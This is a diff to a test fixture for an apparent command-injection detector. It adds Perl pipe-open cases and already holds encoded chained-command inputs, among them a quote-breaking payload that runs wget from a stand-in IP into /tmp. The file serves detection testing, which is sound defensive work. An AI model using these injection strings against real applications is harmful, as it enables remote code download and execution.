@@ -30,6 +30,10 @@ export const CMDI_CASES: readonly CmdiCase[] = [
   { input: 'x || ping -c 10 127.0.0.1', expect: 'cmdi/chained-command' },
   { input: '%0Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
   { input: '%0a ping -i 30 127.0.0.1 %0a', kind: 'query-value', expect: 'cmdi/chained-command', min: 0.9 },
+  // A command line ending in a pipe: what Perl's two-argument open runs.
+  { input: '/usr/bin/id|', kind: 'query-value', expect: 'cmdi/shell-command', min: 0.9 },
+  { input: 'uname -a|', kind: 'query-value', expect: 'cmdi/shell-command', min: 0.9 },
+  { input: 'Tom & Jerry|', kind: 'query-value', expect: null },
   { input: '%250Aid', kind: 'query-value', expect: 'cmdi/chained-command' },
   { input: 'a\nuname -a', expect: 'cmdi/chained-command' },
   { input: "x'; wget http://203.0.113.9/a -O /tmp/a; '", expect: 'cmdi/chained-command' },
